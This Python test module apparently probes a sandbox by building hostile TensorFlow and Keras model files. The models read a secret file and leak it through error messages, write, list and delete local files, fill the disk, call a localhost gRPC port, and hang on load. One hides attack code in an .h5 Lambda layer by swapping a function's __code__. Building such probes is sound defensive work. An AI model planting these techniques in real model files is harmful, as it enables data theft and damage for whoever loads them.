"""Models that attack their environment: `python -m tests.probe.attack_models DIR PLACE CONTROL`.

Graph attacks use TensorFlow's own operations; the others are Python code in a Keras 2 `Lambda`.
All take one float32 vector `x` of shape (2,) per sample. `PLACE` and `CONTROL` are JSON: the
directory `canary`, the file `secret`, ports `tcp` and `udp`, and the socket `unix`. The models
attack the targets in `PLACE`. The targets in `CONTROL` are attacked immediately, without a
sandbox, to show that the attacks work.
"""

from __future__ import annotations

import json
import os
import sys
import threading
from pathlib import Path

import tensorflow as tf

from tests.probe import python_attacks
from tests.probe.hostile_models import after, save, save_on_load
from tests.probe.outside import OLD

raw = tf.raw_ops
CONTROL_SECONDS = 3.0

# Attacks that end immediately and leave a trace, in an order in which they do not disturb each
# other: by graph and by Python code.
CONTROLLED = {
    *("write", "read", "list", "print_to_file", "debug_file", "debug_grpc", "summary"),
    *("dataset_reads", "dataset_writes", "dataset_network", "nested_graph"),
    *("save_variables", "delete_checkpoint"),
    *("listing", "tcp", "udp", "unix", "shell", "change_mode", "delete"),
}


def tell(words, x):
    """Fail with `words`, so that what the model has read is in the error."""
    return after(tf.debugging.Assert(False, [words], summarize=100), x)


def single(dataset):
    """The only element of a dataset of strings."""
    return raw.DatasetToSingleElement(
        dataset=dataset, output_types=[tf.string], output_shapes=[()]
    )[0]


def graph_attacks(place: dict) -> dict:
    """Functions that add each attack to a graph with input `x`, by name."""
    canary, secret = place["canary"], place["secret"]
    address = f"127.0.0.1:{place['tcp']}"
    one = {"output_types": [tf.string], "output_shapes": [()]}

    def debug(url, x):
        return after(
            raw.DebugIdentityV3(
                input=x,
                device_name="/job:localhost/replica:0/task:0/device:CPU:0",
                tensor_name="x:0",
                debug_urls=[url],
            ),
            x,
        )

    def listing(x):
        found = tf.io.matching_files(f"{canary}/*")
        return tf.cond(tf.size(found) > 0, lambda: tell(found, x), lambda: x)

    def summary(x):
        writer = raw.SummaryWriter()
        made = raw.CreateSummaryFileWriter(
            writer=writer, logdir=canary, max_queue=1, flush_millis=1, filename_suffix=".s"
        )
        with tf.control_dependencies([made]):
            wrote = raw.WriteScalarSummary(
                writer=writer, step=tf.constant(1, tf.int64), tag="t", value=1.0
            )
        with tf.control_dependencies([wrote]):
            return after(raw.FlushSummaryWriter(writer=writer), x)

    def cache(x):
        source = raw.TensorDataset(components=[tf.constant("x")], output_shapes=[()])
        cached = raw.CacheDataset(input_dataset=source, filename=f"{canary}/cache", **one)
        return after(single(cached), x)

    def register(x):
        source = raw.TensorDataset(components=[tf.constant("x")], output_shapes=[()])
        number = raw.RegisterDataset(
            dataset=source, address=address, protocol="grpc", external_state_policy=0
        )
        return x + tf.cast(number, tf.float32)

    def text_lines(x):
        lines = raw.TextLineDataset(filenames=[secret], compression_type="", buffer_size=0)
        return tell(single(lines), x)

    def merge(x):
        return after(
            raw.MergeV2Checkpoints(
                checkpoint_prefixes=[f"{canary}/{OLD}/part"],
                destination_prefix=f"{canary}/merged",
                delete_old_dirs=True,
            ),
            x,
        )

    def fill_disk(x):
        block = tf.strings.reduce_join(tf.fill([1 << 10], "x" * (16 << 10)))

        def more(number):
            wrote = tf.io.write_file(tf.strings.as_string(number), block)
            return (after(wrote, number + 1),)

        return x + tf.cast(tf.while_loop(lambda n: n < 200, more, (0,))[0], tf.float32)

    nested = nested_graph(canary)

    def run_nested(x):
        # Depends on `x`, so that constant folding does not run it.
        graph = tf.strings.join([nested, tf.strings.substr(tf.strings.as_string(x[0, 0]), 0, 0)])
        return after(single(raw.DatasetFromGraph(graph_def=graph)), x)

    return {
        "write": lambda x: after(tf.io.write_file(f"{canary}/written", "x"), x),
        "read": lambda x: tell(tf.io.read_file(secret), x),
        "list": listing,
        "print_to_file": lambda x: after(tf.print(x, output_stream=f"file://{canary}/printed"), x),
        "debug_file": lambda x: debug(f"file://{canary}/debug", x),
        "summary": summary,
        "dataset_reads": text_lines,
        "dataset_writes": cache,
        "nested_graph": run_nested,
        "save_variables": lambda x: after(
            raw.SaveV2(
                prefix=f"{canary}/saved", tensor_names=["x"], shape_and_slices=[""], tensors=[x]
            ),
            x,
        ),
        "delete_checkpoint": merge,
        "fill_disk": fill_disk,
        # Last, because they block a thread of TensorFlow if nobody answers.
        "debug_grpc": lambda x: debug(f"grpc://{address}", x),
        "dataset_network": register,
    }


def nested_graph(canary: str) -> bytes:
    """A dataset with a graph of its own that writes a file for its only element."""

    def write(text):
        return after(tf.io.write_file(f"{canary}/nested", text), text)

    dataset = tf.data.Dataset.from_tensors("x").map(write)
    return raw.DatasetToGraphV2(input_dataset=dataset._variant_tensor).numpy()


def python_code(folder: Path, place: dict) -> None:
    """Save every attack of `python_attacks` in the `.h5` of a Lambda layer, which runs it."""
    import tf_keras

    for attack in python_attacks.ATTACKS:
        # Building a model calls its layers, so a harmless function is replaced by the attack later.
        def harmless(x, place):
            return x

        model = tf_keras.Sequential(
            [
                tf_keras.layers.InputLayer((2,)),
                tf_keras.layers.Lambda(harmless, arguments={"place": place}),
            ]
        )
        harmless.__code__ = attack.__code__
        model.save(folder / f"python_{attack.__name__}.h5")


def attack_unheld(control: dict) -> dict[str, str]:
    """Run the attacks that end by themselves; return what each has read, by name."""
    known: dict[str, str] = {}
    x = tf.ones((1, 2))

    def attempt(name: str, attack, *arguments) -> None:
        try:
            attack(*arguments)
        except (tf.errors.OpError, RuntimeError, OSError) as error:
            known[name] = str(error)

    def hurry(*arguments) -> None:  # our listener never answers
        thread = threading.Thread(target=attempt, args=arguments, daemon=True)
        thread.start()
        thread.join(CONTROL_SECONDS)

    for name, body in graph_attacks(control).items():
        if name in CONTROLLED:
            hurry(f"graph_{name}", tf.function(body), x)
    for attack in python_attacks.ATTACKS:
        if attack.__name__ in CONTROLLED:
            hurry(f"python_{attack.__name__}.h5", attack, x, control)
    return known


def build(folder: Path, place: dict) -> None:
    """Write every model into `folder`."""
    for name, body in graph_attacks(place).items():
        save(folder, f"graph_{name}", body)
    canary = place["canary"]
    save_on_load(folder, "graph_write_on_load", lambda: tf.io.write_file(f"{canary}/on_load", "x"))
    save_on_load(
        folder,
        "graph_hang_on_load",
        lambda: tf.while_loop(lambda v: True, lambda v: (v + 0.0,), (tf.constant(0.0),))[0].op,
    )
    save(folder, "honest", lambda x: 2.0 * x)
    python_code(folder, place)


if __name__ == "__main__":
    places = [json.loads(argument) for argument in sys.argv[2:]]
    for place in places:  # for attacks that delete it
        part = f"{place['canary']}/{OLD}/part"
        raw.SaveV2(prefix=part, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.ones(1)])
    build(Path(sys.argv[1]), places[0])
    sys.stdout.write(json.dumps(attack_unheld(places[1])))
    sys.stdout.flush()
    os._exit(0)  # some are still waiting
